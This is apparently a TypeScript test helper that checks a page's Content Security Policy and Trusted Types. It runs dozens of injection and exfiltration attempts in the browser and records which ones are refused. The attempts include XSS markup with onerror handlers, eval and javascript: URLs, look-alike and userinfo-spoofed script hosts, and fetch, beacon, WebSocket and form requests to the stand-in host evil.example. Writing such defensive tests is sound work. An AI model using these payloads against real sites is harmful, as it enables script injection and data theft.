type WithTrustedTypes = {
  trustedTypes: { createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => void };
};

/**
 * Ways in which untrusted text becomes script, or data leaves the page. The product uses none of them: each represents
 * a possible future mistake. They run in the page, and each has to throw, reject, or be reported as a violation.
 */
const injections = (): Record<string, () => unknown> => {
  const handler = '<img src="/x" onerror="ran()">';
  const externalOrigin = 'https://evil.example';
  const create = <Name extends keyof HTMLElementTagNameMap>(name: Name) => document.createElement(name);
  const add = <Node extends HTMLElement>(node: Node) => document.body.appendChild(node);
  /** Assigns text to a property that accepts trusted values only; the types reject it as well. */
  const assign = (node: object, name: string, text: string) => Reflect.set(node, name, text);
  const withScript = (name: string, text: string) => {
    const script = create('script');
    assign(script, name, text);
    add(script);
  };
  const loadScript = (url: string) => () => withScript('src', url);
  return {
    'markup: innerHTML': () => assign(add(create('div')), 'innerHTML', handler),
    'markup: outerHTML': () => assign(add(create('div')), 'outerHTML', handler),
    'markup: insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', handler),
    'markup: setHTMLUnsafe': () => add(create('div')).setHTMLUnsafe(handler),
    'markup: shadow root': () =>
      assign(add(create('div')).attachShadow({ mode: 'open' }), 'innerHTML', handler),
    'markup: document.write': () => document.write(handler),
    'markup: srcdoc': () => assign(add(create('iframe')), 'srcdoc', '<script>parent.ran()</script>'),
    'markup: DOMParser': () => new DOMParser().parseFromString(handler, 'text/html'),
    'markup: a fragment of a range': () => document.createRange().createContextualFragment(handler),
    'script: another host': loadScript(`${externalOrigin}/x.js`),
    'script: a host that looks alike': loadScript('https://www.google.com.evil.example/recaptcha/api.js'),
    'script: a host as a name of a user': loadScript('https://www.google.com@evil.example/recaptcha/api.js'),
    'script: another path of the reCAPTCHA host': loadScript('https://www.google.com/recaptcha/../jsapi'),
    'script: no encryption': loadScript('http://www.google.com/recaptcha/api.js'),
    'script: a file of our own, named by a text': loadScript('/sw.js?callback=ran'),
    'script: data': loadScript('data:text/javascript,ran()'),
    'script: a blob': () => loadScript(URL.createObjectURL(new Blob(['ran()'])))(),
    'script: text': () => withScript('text', 'ran()'),
    'script: textContent': () => withScript('textContent', 'ran()'),
    'script: innerText': () => withScript('innerText', 'ran()'),
    'script: a text node': () => {
      const script = create('script');
      script.append('ran();document.currentScript.remove()');
      // The browser reports no violation for this one: the script just does not run.
      if (add(script).isConnected) throw new Error('It did not run.');
    },
    'code: eval': () => (0, window['eval'])('ran()'),
    'code: Function': () => Reflect.construct(window.Function, ['ran()'])(),
    'code: setTimeout': () => Reflect.apply(window.setTimeout, window, ['ran()']),
    'code: setInterval': () => Reflect.apply(window.setInterval, window, ['ran()']),
    'code: a handler': () => {
      const node = add(create('button'));
      node.setAttribute('onclick', 'ran()');
      node.click();
    },
    'code: the URL of a link': () => {
      const link = add(create('a'));
      link.href = ['java', 'script:ran()'].join('');
      link.click();
    },
    'code: the URL of a frame': () => {
      const frame = create('iframe');
      frame.src = ['java', 'script:parent.ran()'].join('');
      add(frame);
    },
    'code: import of data': () => import(['data:text/javascript', 'ran()'].join(',')),
    'code: import from another host': () => import(`${externalOrigin}/x.js`),
    'worker: another host': () => new Worker(`${externalOrigin}/x.js`),
    'worker: data': () => new Worker('data:text/javascript,ran()'),
    'worker: shared': () => new SharedWorker('data:text/javascript,ran()'),
    'worker: service worker of another name': () => navigator.serviceWorker.register('/evil.js'),
    'policy: one more': () =>
      (window as unknown as WithTrustedTypes).trustedTypes.createPolicy('default', { createHTML: String }),
    'out: fetch': () => fetch(`${externalOrigin}/?a`),
    'out: beacon': () => navigator.sendBeacon(`${externalOrigin}/?a`),
    'out: image': () => assign(add(create('img')), 'src', `${externalOrigin}/a.png`),
    'out: socket': () => new WebSocket('wss://evil.example'),
    'out: events': () => new EventSource(`${externalOrigin}/a`),
    'out: form': () => {
      const frame = add(create('iframe'));
      frame.name = 'outside';
      const form = add(create('form'));
      form.target = frame.name;
      form.action = externalOrigin;
      form.submit();
    },
    'in: frame': () => assign(add(create('iframe')), 'src', externalOrigin),
    'in: object': () => assign(add(create('object')), 'data', `${externalOrigin}/x.swf`),
    'in: embed': () => assign(add(create('embed')), 'src', `${externalOrigin}/x.swf`),
    'in: style': () => add(create('style')).append('body{display:none}'),
    'in: style sheet': () => {
      const link = create('link');
      link.rel = 'stylesheet';
      link.href = `${externalOrigin}/x.css`;
      add(link);
    },
    'in: style attribute': () => document.body.setAttribute('style', 'display:none'),
    'in: font': () => new FontFace('evil', `url(${externalOrigin}/x.woff2)`).load(),
    'in: video': () => assign(add(create('video')), 'src', `${externalOrigin}/x.mp4`),
    'in: base': () => {
      const base = create('base');
      base.href = externalOrigin;
      document.head.append(base);
    },
  };
};

/** The effects of one attempt have to be over before the next begins. */
const PAUSE_MS = 20;

/** Tries each attempt and returns its result: `refused`, or `passed` where the browser allowed it. */
const tryAll = async (
  attempts: Record<string, () => unknown>,
  [named, settled]: [number, number],
): Promise<Record<string, 'refused' | 'passed' | 'ran'>> => {
  const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
  const outcomes: Record<string, 'refused' | 'passed' | 'ran'> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    let hasRun = false;
    Object.assign(window, { ran: () => (hasRun = true) });
    const violation = new Promise<boolean>((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
      setTimeout(() => resolve(false), named);
    });
    let isRefused: boolean;
    try {
      await attempt();
      isRefused = await violation;
    } catch {
      isRefused = true;
    }
    await pause(settled);
    outcomes[name] = hasRun ? 'ran' : isRefused ? 'refused' : 'passed';
  }
  return outcomes;
};

/** The same as source text for `page.evaluate`; the browser has `namedMs` to report a violation. */
export const allInjections = (namedMs: number) =>
  `(${tryAll.toString()})((${injections.toString()})(), [${namedMs}, ${PAUSE_MS}])`;
